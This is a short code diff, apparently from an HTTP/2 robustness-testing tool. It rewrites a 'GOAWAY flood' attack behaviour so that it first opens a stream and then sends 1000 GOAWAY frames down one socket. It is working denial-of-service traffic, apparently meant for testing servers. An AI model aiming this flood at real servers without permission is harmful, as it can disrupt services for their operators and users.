@@ -145,6 +145,14 @@ export function http2Attacks(host: string): Readonly<Record<string, Behaviour>> 
         );
       },
     },
-    'GOAWAY flood': { ...few, opened: repeated(frame(frameTypes.goAway, 0, 0, Buffer.concat([word(0), noError]))) },
+    'GOAWAY flood': {
+      ...few,
+      opened(socket) {
+        // What is under way keeps the connection open after the first.
+        socket.write(Buffer.concat([started, frame(frameTypes.headers, endHeaders, 1, upload)]));
+        const goAway = frame(frameTypes.goAway, 0, 0, Buffer.concat([word(0), noError]));
+        pour(socket, Buffer.concat(Array.from({ length: 1000 }, () => goAway)));
+      },
+    },
   };
 }
